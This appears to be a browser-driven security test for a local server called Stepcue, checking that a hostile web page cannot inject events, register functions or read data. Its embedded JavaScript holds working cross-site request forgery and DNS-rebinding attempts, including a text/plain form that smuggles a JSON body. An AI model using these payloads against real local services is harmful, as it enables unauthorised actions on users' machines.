"""What a web page can do to a running Stepcue, tried by a page in a real browser."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from support.chromium import PROGRAM, page_opened
from support.handshake import INITIALIZE
from support.listening import listening
from support.processes import Stepcue, stepcue

pytestmark = [pytest.mark.anyio, pytest.mark.skipif(PROGRAM is None, reason="no Chromium on this machine")]

EVIL = "evil.example"
PATIENCE_S = 60

SCRIPT = """
const port = PORT, direct = `http://127.0.0.1:${port}`, rebound = `http://EVIL:${port}`;
const event = JSON.stringify({name: "page/event", data: {}});
const app = JSON.stringify({appName: "page", url: "http://127.0.0.1:1/api/inngest", functions: []});
const seen = {};
const attempt = async (name, work) => {
  try { seen[name] = await work(); } catch (error) { seen[name] = "error"; }
};
const read = async (url, options) => { const r = await fetch(url, options); return `${r.type} ${r.status}`; };
const loads = (tag, url) => new Promise((resolve) => {
  const element = document.createElement(tag);
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("failed");
  element.src = url;
  document.body.append(element);
});
const form = (action) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = action;
  document.body.append(frame);
  const sent = document.createElement("form");
  Object.assign(sent, {method: "post", action, target: action, enctype: "text/plain"});
  const field = document.createElement("input");
  field.name = event.slice(0, -1) + ', "x": "';
  field.value = '"}';
  sent.append(field);
  document.body.append(sent);
  frame.onload = () => resolve("answered");
  sent.submit();
});
(async () => {
  for (const [name, base] of [["direct", direct], ["rebound", rebound]]) {
    const text = {method: "POST", body: event, mode: "no-cors"};
    await attempt(`${name} event`, () => read(`${base}/e/key`, text));
    await attempt(`${name} event, json`, () => read(`${base}/e/key`, {
      method: "POST", body: event, headers: {"Content-Type": "application/json"}}));
    await attempt(`${name} app`, () => read(`${base}/fn/register`, {...text, body: app}));
    await attempt(`${name} test`, () => read(`${base}/stepcue/v1/test`, {...text, body: "{}"}));
    await attempt(`${name} mcp`, () => read(`${base}/mcp`, {
      method: "POST", body: MCP,
      headers: {"Content-Type": "application/json", Accept: "application/json, text/event-stream"}}));
    await attempt(`${name} runs`, () => read(`${base}/v2/runs`));
    await attempt(`${name} image`, () => loads("img", `${base}/health`));
    await attempt(`${name} script`, () => loads("script", `${base}/dev`));
    await attempt(`${name} form`, () => form(`${base}/e/key`));
    navigator.sendBeacon(`${base}/e/key`, event);
  }
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
})();
"""


@asynccontextmanager
async def _evil_site(script: str) -> AsyncIterator[tuple[int, asyncio.Future[dict[str, Any]]]]:
    """Serve a page with `script`; yields its port, and what the script says that it has seen."""
    said: asyncio.Future[dict[str, Any]] = asyncio.get_running_loop().create_future()

    async def page(_: Request) -> Response:
        return HTMLResponse(f"<!doctype html><title>evil</title><body><script>{script}</script>")

    async def seen(request: Request) -> Response:
        said.set_result(json.loads(await request.body()))
        return Response()

    routes = [Route("/", page), Route("/seen", seen, methods=["POST"])]
    async with listening(Starlette(routes=routes)) as origin:
        yield urlsplit(origin).port or 0, said


async def _state(server: Stepcue) -> tuple[list[Any], list[Any]]:
    async with httpx.AsyncClient(trust_env=False, base_url=server.origin) as http:
        events = (await http.get("/v1/events")).json()["data"]
        dev = (await http.get("/dev")).json()
    return events, dev["functions"]


async def test_a_page_of_another_site_changes_nothing_and_reads_nothing(tmp_path: Path) -> None:
    async with stepcue(tmp_path, "--in-memory", "--no-poll") as server:
        script = SCRIPT.replace("PORT", str(server.port)).replace("EVIL", EVIL)
        script = script.replace("MCP", json.dumps(json.dumps(INITIALIZE)))
        async with _evil_site(script) as (port, said):
            hosts = {EVIL: "127.0.0.1"}
            async with page_opened(f"http://{EVIL}:{port}/", tmp_path / "profile", hosts=hosts):
                seen = await asyncio.wait_for(said, PATIENCE_S)
        events, functions = await _state(server)

    assert events == []
    assert functions == []
    assert len(seen) == 18
    readable = {name: what for name, what in seen.items() if what.startswith(("cors 2", "basic 2", "loaded"))}
    assert readable == {}
    assert seen["direct event"] == "opaque 0", "the browser sent it, and was answered"
